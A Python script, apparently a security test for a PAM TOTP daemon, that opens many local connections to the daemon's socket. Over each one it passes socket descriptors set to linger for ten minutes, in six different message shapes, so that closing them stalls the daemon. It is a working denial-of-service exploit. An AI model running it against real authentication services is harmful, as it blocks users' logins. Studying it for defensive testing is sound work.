# SPDX-License-Identifier: BSD-2-Clause
"""What an attacker sends to totpd: descriptors that take for ever to close."""
import os
import socket
import struct
import sys
import threading
import time

import wire

KEPT = []  # the other ends, which are never read


def lingering():
    """The descriptor of a connection whose last reference takes ten minutes to close."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sender = socket.socket()
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
    sender.connect(listener.getsockname())
    KEPT.append(listener.accept()[0])
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(65536))
    except BlockingIOError:
        pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 600))
    return sender.detach()


def send(connection, message, *extra):
    """Send it with the last reference to a lingering connection. Was it accepted?"""
    descriptor = lingering()
    try:
        socket.send_fds(connection, [message], [descriptor, *extra])
    except OSError:
        return False  # and kept open: to close it here would take ten minutes
    # where totpd has thrown the message away by now, ours is the last one and takes ten minutes
    threading.Thread(target=os.close, args=(descriptor,), daemon=True).start()
    return True


def request(user):
    return wire.request(wire.LOOK, user)


def in_a_request(connection, user):
    return send(connection, request(user))


def in_noise(connection, _):
    return send(connection, b"x")


def behind_a_request(connection, user):
    connection.send(request(user))
    return send(connection, b"x")


def before_a_request(connection, user):
    sent = send(connection, b"x")
    connection.send(request(user))
    return sent


def and_gone(connection, user):
    sent = send(connection, request(user))
    connection.close()
    return sent


def with_the_connection_itself(connection, user):
    sent = send(connection, request(user), connection.fileno())
    connection.close()
    return sent


SHAPES = [in_a_request, in_noise, behind_a_request, before_a_request, and_gone,
          with_the_connection_itself]


def attack(user, rounds, path="/run/pam_totp/socket"):
    """All shapes so often; print how many descriptors were accepted. Then keep the other ends."""
    connections, taken = [], 0
    for _ in range(rounds):
        for shape in SHAPES:
            try:
                connection = wire.connect(path)
                connections.append(connection)
                taken += shape(connection, user)
            except OSError:
                pass
    print(taken, flush=True)
    time.sleep(600)


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]))
